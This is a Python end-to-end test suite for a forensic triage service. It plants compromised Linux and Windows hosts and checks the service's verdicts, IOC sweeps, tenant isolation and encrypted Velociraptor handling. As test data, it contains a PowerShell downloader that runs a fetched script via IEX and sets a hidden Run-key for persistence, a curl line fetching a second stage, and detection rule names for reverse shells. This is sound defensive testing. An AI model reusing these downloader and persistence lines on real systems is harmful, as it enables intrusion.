#!/usr/bin/env python3
"""End-to-end tests of host collections through the service pipeline: real nats-server,
redis-server and every Kensa service (forensic-ingest included) started by scripts/cluster,
driven through the gateway's REST API as the collectors' --upload and an analyst would.
The collections are the real Linux collector's archives (collectors/linux) of planted hosts.
Python's standard library only.

Run through ctest (tests/e2e/CMakeLists.txt registers it) or directly:
    KENSA_BINARY_DIR=build/ci python3 tests/e2e/collection_e2e_test.py -v
"""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "collectors"))
from kensa_cluster import Cluster  # noqa: E402
from planted_host import COLLECTOR, collect_planted_host, plant_host, write  # noqa: E402

# A port range of its own (the pipeline suite takes a random one from 20000 up).
BASE_PORT = int(os.environ.get("KENSA_COLLECTION_E2E_BASE_PORT", "17900"))
DONE_STATES = ("SUBMISSION_STATE_DONE", "SUBMISSION_STATE_FAILED")


def collect(root, out_dir, case, max_file_bytes=100000):
    result = subprocess.run(["dash", COLLECTOR, "--root", root, "--out", out_dir, "--case", case,
                             "--max-file-bytes", str(max_file_bytes)],
                            capture_output=True, text=True, check=True, timeout=600)
    with open(result.stdout.strip(), "rb") as handle:
        return handle.read()


def clean_host(root):
    """A plain host: one user, an ordinary crontab, logs without logins or failures."""
    write(root + "/etc/hostname", "quiet01\n")
    write(root + "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n')
    write(root + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n")
    write(root + "/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    write(root + "/home/bob/.bash_history", "ls -la\nvim notes.txt\ngit status\n")
    write(root + "/var/log/auth.log", "Nov 26 08:00:01 quiet01 CRON[500]: pam_unix(cron:session): session opened\n")


# A PowerShell downloader with Run-key persistence: triaged as critical, its hash and the host it
# downloads from become the tenant's known-bad indicators.
DOWNLOADER = (b"$c = New-Object Net.WebClient\n"
              b"IEX $c.DownloadString('http://cdn-update.kensa-test.jp/stage2.ps1')\n"
              b"Start-Process powershell -ArgumentList '-nop -w hidden -enc SQBFAFgA'\n"
              b"Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd "
              b"-Value 'powershell -w hidden -f C:\\Users\\Public\\u.ps1'\n")


def downloader_host(root):
    """A plain host where the downloader was dropped in /tmp and fetched its second stage."""
    clean_host(root)
    write(root + "/etc/hostname", "jump01\n")
    write(root + "/home/bob/.bash_history", "ls -la\ncurl -s http://cdn-update.kensa-test.jp/stage2.ps1 -o /tmp/s2\n")
    os.makedirs(root + "/tmp", exist_ok=True)
    with open(root + "/tmp/update.ps1", "wb") as handle:
        handle.write(DOWNLOADER)
    os.chmod(root + "/tmp/update.ps1", 0o755)


def encrypted_velociraptor(work):
    """Velociraptor offline collections in protected containers (X509 scheme for a fresh key,
    Password scheme with "S3cret-IR"): (key file, X509 archive bytes, Password archive bytes)."""
    source = os.path.dirname(os.path.dirname(HERE))
    folder = os.path.join(work, "velociraptor")
    os.makedirs(folder)
    reg = os.path.join(folder, "software.reg")
    with open(reg, "w", newline="") as handle:
        handle.write("Windows Registry Editor Version 5.00\r\n\r\n"
                     "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
                     "\"Updater\"=\"C:\\\\Users\\\\Public\\\\upd.exe -k\"\r\n\r\n")
    hive = os.path.join(folder, "SOFTWARE")
    subprocess.run([sys.executable, os.path.join(source, "tests/support/make_hive.py"), hive, reg,
                    "--prefix", "HKEY_LOCAL_MACHINE\\SOFTWARE"], check=True, capture_output=True)
    key = os.path.join(folder, "frontend.key")
    subprocess.run(["openssl", "genrsa", "-out", key, "2048"], check=True, capture_output=True)
    evtx = os.path.join(source, "..", "shared", "corpora", "evtx-attack-samples", "Credential Access",
                        "sysmon_10_lsass_mimikatz_sekurlsa_logonpasswords.evtx")
    make = os.path.join(source, "libs/collection/tests/make_foreign_collections.py")
    archives = []
    for kind, secret in (("velociraptor-x509", key), ("velociraptor-password", "S3cret-IR")):
        out = os.path.join(folder, kind + ".zip")
        subprocess.run([sys.executable, make, kind, out, evtx, hive, secret], check=True, capture_output=True)
        with open(out, "rb") as handle:
            archives.append(handle.read())
    return key, archives[0], archives[1]


def heavy_host(root):
    """The planted host with a long auth.log, so that its hunt takes long enough to be killed."""
    plant_host(root)
    line = "Nov 26 07:%02d:%02d victim01 sshd[%d]: Connection closed by 192.0.2.%d port %d [preauth]\n"
    with open(root + "/var/log/auth.log", "a") as handle:
        for i in range(400000):
            handle.write(line % ((i // 60) % 60, i % 60, 1000 + i % 5000, i % 250, 40000 + i % 20000))


class Collections(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.work = tempfile.mkdtemp(prefix="kensa-collection-e2e-")
        with open(collect_planted_host(os.path.join(cls.work, "planted")), "rb") as handle:
            cls.planted = handle.read()
        clean_root = os.path.join(cls.work, "clean", "root")
        clean_host(clean_root)
        cls.clean = collect(clean_root, os.path.join(cls.work, "clean", "out"), "CASE-CLEAN")
        cls.velociraptor_key, cls.velociraptor_x509, cls.velociraptor_password = encrypted_velociraptor(cls.work)
        # A short ack wait, so that the killed worker's task comes back within seconds; the
        # private key that opens X509-scheme Velociraptor collections.
        cls.cluster = Cluster(env={"KENSA_ACK_WAIT_SECONDS": "8", "KENSA_COLLECTION_KEY_FILE": cls.velociraptor_key},
                              base_port=BASE_PORT).start()

    @classmethod
    def tearDownClass(cls):
        cls.cluster.stop()
        shutil.rmtree(cls.work, ignore_errors=True)

    def upload(self, name, data, key=None):
        status, body, headers = self.cluster.submit_collection(key or self.cluster.key_a, name, data)
        self.assertEqual(status, 202, body)
        answer = json.loads(body)
        collection = answer["collection"]
        self.assertEqual(collection["kind"], "SUBMISSION_KIND_COLLECTION")
        self.assertEqual(headers["Location"], "/api/v1/collections/" + collection["id"])
        return collection["id"]

    def wait_done(self, collection_id, timeout=300, key=None):
        deadline = time.time() + timeout
        while time.time() < deadline:
            status, answer = self.cluster.get_json("/api/v1/collections/" + collection_id, key or self.cluster.key_a)
            self.assertEqual(status, 200, answer)
            if answer["collection"].get("state") in DONE_STATES:
                return answer
            time.sleep(0.3)
        raise AssertionError("collection %s did not finish within %d s" % (collection_id, timeout))

    def report(self, collection_id, fmt="json", lang="en", key=None):
        return self.cluster.request("GET", "/api/v1/collections/%s/report?format=%s&lang=%s" % (collection_id, fmt, lang),
                                    key or self.cluster.key_a)

    def test_a_planted_host_is_compromised_and_its_persistence_is_named(self):
        collection_id = self.upload("kensa-victim01.tar.gz", self.planted)
        status = self.wait_done(collection_id)
        self.assertEqual(status["collection"]["state"], "SUBMISSION_STATE_DONE")
        self.assertTrue(status["reportReady"])
        self.assertEqual(status["verdict"], "HUNT_VERDICT_COMPROMISED")
        self.assertIn("critical", status["verdictReason"])

        code, body, headers = self.report(collection_id)
        self.assertEqual(code, 200, body)
        report = json.loads(body)
        self.assertEqual(report["verdict"], "HUNT_VERDICT_COMPROMISED")
        self.assertEqual(report["collection"]["path"], "kensa-victim01.tar.gz")
        self.assertEqual(report["collection"]["manifest"]["host"]["hostname"], "victim01")
        fired = {finding["ruleId"] for finding in report["findings"]}
        for planted in ("linux_ld_so_preload", "linux_cron_download_and_run", "linux_systemd_unit_from_temp",
                        "linux_history_reverse_shell", "linux_uid0_account"):
            self.assertIn(planted, fired)
        iocs = {(i["type"], i["value"]): i["source"] for i in report["indicators"]}
        self.assertEqual(iocs[("INDICATOR_TYPE_URL", "http://198.51.100.7/c.sh")], "linux_cron_download_and_run")
        preload = [f for f in report["findings"] if f["ruleId"] == "linux_ld_so_preload"][0]
        self.assertEqual(preload["location"], "files/etc/ld.so.preload:1")
        self.assertIn("libsneaky.so", preload["evidence"])

        code, body, headers = self.report(collection_id, "html")
        self.assertEqual(code, 200)
        self.assertTrue(headers["Content-Type"].startswith("text/html"))
        self.assertIn("default-src 'none'", headers["Content-Security-Policy"])
        html = body.decode()
        self.assertIn('<div class="badge">COMPROMISED</div>', html)
        self.assertIn("files/etc/ld.so.preload:1", html)
        self.assertIn("files/etc/systemd/system/dbus-helper.service", html)
        code, body, _ = self.report(collection_id, "html", "ja")
        self.assertEqual(code, 200)
        self.assertIn('<div class="badge">侵害あり</div>', body.decode())
        code, body, _ = self.report(collection_id, "text")
        self.assertEqual(code, 200)
        self.assertTrue(body.decode().startswith("verdict: COMPROMISED"), body[:200])
        code, body, _ = self.report(collection_id, "pdf")
        self.assertEqual(code, 400, body)

    def test_a_clean_host_is_not_compromised(self):
        collection_id = self.upload("kensa-quiet01.tar.gz", self.clean)
        status = self.wait_done(collection_id)
        self.assertEqual(status["collection"]["state"], "SUBMISSION_STATE_DONE")
        self.assertNotEqual(status["verdict"], "HUNT_VERDICT_COMPROMISED")
        code, body, _ = self.report(collection_id)
        self.assertEqual(code, 200)
        report = json.loads(body)
        self.assertEqual(report["verdict"], "HUNT_VERDICT_NO_EVIDENCE")
        self.assertEqual(report["collection"]["manifest"]["host"]["hostname"], "quiet01")
        code, body, _ = self.report(collection_id, "html")
        self.assertIn('<div class="badge">NO EVIDENCE</div>', body.decode())

    def test_another_tenant_sees_nothing(self):
        c = self.cluster
        collection_id = self.upload("kensa-victim01.tar.gz", self.planted)
        self.wait_done(collection_id)
        status, body = c.get_json("/api/v1/collections/" + collection_id, c.key_b)
        self.assertEqual(status, 404, body)
        code, body, _ = self.report(collection_id, key=c.key_b)
        self.assertEqual(code, 404, body)
        # The owner's reader key reads it; sample routes do not know collection ids.
        status, _ = c.get_json("/api/v1/collections/" + collection_id, c.reader_a)
        self.assertEqual(status, 200)
        status, _ = c.get_json("/api/v1/submissions/" + collection_id, c.key_a)
        self.assertEqual(status, 404)
        code, _, _ = c.request("GET", "/api/v1/submissions/%s/report" % collection_id, c.key_a)
        self.assertEqual(code, 404)
        status, _ = c.get_json("/api/v1/collections/0123456789abcdef0123456789abcdef", c.key_a)
        self.assertEqual(status, 404)

    def test_a_tenants_malicious_triage_is_swept_for_in_its_own_collections_only(self):
        c = self.cluster
        answer = c.submit_ok(c.key_a, "update.ps1", DOWNLOADER)
        sample_id = answer["submission"]["id"]
        c.wait_finished(c.key_a, [sample_id])
        status, triage = c.get_json("/api/v1/submissions/%s/report" % sample_id, c.key_a)
        self.assertEqual(status, 200)
        self.assertIn(triage["verdict"]["level"], ("LEVEL_MALICIOUS", "LEVEL_CRITICAL"), triage["verdict"])

        root = os.path.join(self.work, "downloader", "root")
        downloader_host(root)
        archive = collect(root, os.path.join(self.work, "downloader", "out"), "CASE-IOC")
        ours = self.upload("kensa-jump01.tar.gz", archive)
        self.assertEqual(self.wait_done(ours)["verdict"], "HUNT_VERDICT_COMPROMISED")
        code, body, _ = self.report(ours)
        self.assertEqual(code, 200, body)
        report = json.loads(body)
        swept = {f["ruleId"]: f for f in report["findings"] if f["source"] == "ioc"}
        self.assertEqual(set(swept), {"ioc_known_bad_file", "ioc_known_bad_hash_in_listing", "ioc_known_bad_domain"})
        self.assertEqual(swept["ioc_known_bad_file"]["sourceFile"], "/tmp/update.ps1")
        self.assertEqual(swept["ioc_known_bad_domain"]["sourceFile"], "/home/bob/.bash_history")
        origin = "[known bad: triage report %s (update.ps1, " % sample_id
        self.assertIn(origin, swept["ioc_known_bad_domain"]["evidence"])
        self.assertGreaterEqual(int(report["stats"]["indicatorsSwept"]), 2)

        # Tenant B uploads the same archive: the hunt is reused, tenant A's indicators are not.
        theirs = self.upload("kensa-jump01.tar.gz", archive, key=c.key_b)
        self.wait_done(theirs, key=c.key_b)
        code, body, _ = self.report(theirs, key=c.key_b)
        self.assertEqual(code, 200, body)
        report = json.loads(body)
        self.assertEqual([f for f in report["findings"] if f["source"] == "ioc"], [])
        self.assertNotIn("indicatorsSwept", report["stats"])

    def test_encrypted_velociraptor_collections_open_with_the_servers_key_or_the_uploads_password(self):
        x509 = self.upload("Collection-WKSTN-07-x509.zip", self.velociraptor_x509)
        self.assertEqual(self.wait_done(x509)["verdict"], "HUNT_VERDICT_COMPROMISED")
        code, body, _ = self.report(x509)
        self.assertEqual(code, 200, body)
        report = json.loads(body)
        self.assertEqual(report["collection"]["encryption"],
                         "Velociraptor container, X509 scheme: password decrypted with the private key")
        self.assertEqual(report["collection"]["manifest"]["host"]["hostname"], "WKSTN-07")
        self.assertIn("windows_autorun_user_writable", {f["ruleId"] for f in report["findings"]})

        status, body, _ = self.cluster.submit_collection(self.cluster.key_a, "Collection-WKSTN-07-pw.zip",
                                                         self.velociraptor_password, fields=[("password", "S3cret-IR")])
        self.assertEqual(status, 202, body)
        opened = json.loads(body)["collection"]["id"]
        self.assertEqual(self.wait_done(opened)["collection"]["state"], "SUBMISSION_STATE_DONE")
        code, body, _ = self.report(opened)
        self.assertEqual(json.loads(body)["collection"]["encryption"],
                         "Velociraptor container, Password scheme: opened with a given password")
        # The password is never shown back.
        status, answer = self.cluster.get_json("/api/v1/collections/" + opened, self.cluster.key_a)
        self.assertNotIn("S3cret-IR", json.dumps(answer))

        locked = self.upload("Collection-WKSTN-07-pw.zip", self.velociraptor_password)
        answer = self.wait_done(locked)
        self.assertEqual(answer["collection"]["state"], "SUBMISSION_STATE_FAILED")
        self.assertIn("encrypted Velociraptor collection (Password scheme): give its password",
                      answer["collection"]["failureReason"])

    def test_bad_uploads_get_a_clear_4xx(self):
        c = self.cluster
        status, body, _ = c.submit_collection(c.key_a, "notes.txt", b"this is not an archive\n")
        self.assertEqual(status, 400, body)
        self.assertIn("not a collection archive", json.loads(body)["error"]["message"])
        status, body, _ = c.submit_collection(c.key_a, "empty.zip", b"")
        self.assertEqual(status, 400, body)
        status, body, _ = c.request("POST", "/api/v1/collections", c.key_a, self.planted,
                                    {"Content-Type": "application/octet-stream"})
        self.assertEqual(status, 400, body)
        status, body, _ = c.submit_collection(c.reader_a, "kensa-victim01.tar.gz", self.planted)
        self.assertEqual(status, 403, body)
        status, body, _ = c.submit_collection(None, "kensa-victim01.tar.gz", self.planted)
        self.assertEqual(status, 401, body)

    def test_z_a_worker_killed_mid_hunt_loses_nothing(self):
        c = self.cluster
        heavy_root = os.path.join(self.work, "heavy", "root")
        heavy_host(heavy_root)
        heavy = collect(heavy_root, os.path.join(self.work, "heavy", "out"), "CASE-HEAVY", max_file_bytes=200000000)
        collection_id = self.upload("kensa-victim01-heavy.tar.gz", heavy)
        deadline = time.time() + 120
        state = ""
        while time.time() < deadline:
            _, answer = c.get_json("/api/v1/collections/" + collection_id, c.key_a)
            state = answer["collection"]["state"]
            if state != "SUBMISSION_STATE_QUEUED":
                break
            time.sleep(0.05)
        self.assertEqual(state, "SUBMISSION_STATE_RUNNING", "the hunt finished before it could be killed")
        killed_pid = c.pid("forensic-ingest-1")
        c.run("kill", "forensic-ingest-1")
        with self.assertRaises(ProcessLookupError):
            os.kill(killed_pid, 0)
        c.run("restart", "forensic-ingest-1")
        status = self.wait_done(collection_id, timeout=300)
        self.assertEqual(status["collection"]["state"], "SUBMISSION_STATE_DONE", status)
        self.assertEqual(status["verdict"], "HUNT_VERDICT_COMPROMISED")
        # The restarted worker took the redelivered task and finished it.
        self.assertGreaterEqual(c.metric("forensic-ingest-1", 'kensa_tasks_total{outcome="done",stage="forensic"}'), 1)

    def test_metrics_and_health(self):
        c = self.cluster
        for path in ("/healthz", "/readyz", "/metrics"):
            with urllib.request.urlopen(c.admin_url("forensic-ingest-1") + path, timeout=10) as response:
                self.assertEqual(response.status, 200)
        text = urllib.request.urlopen(c.admin_url("forensic-ingest-1") + "/metrics", timeout=10).read().decode()
        self.assertIn('kensa_consumer_pending{priority="p3",stage="forensic"}', text)


if __name__ == "__main__":
    unittest.main()
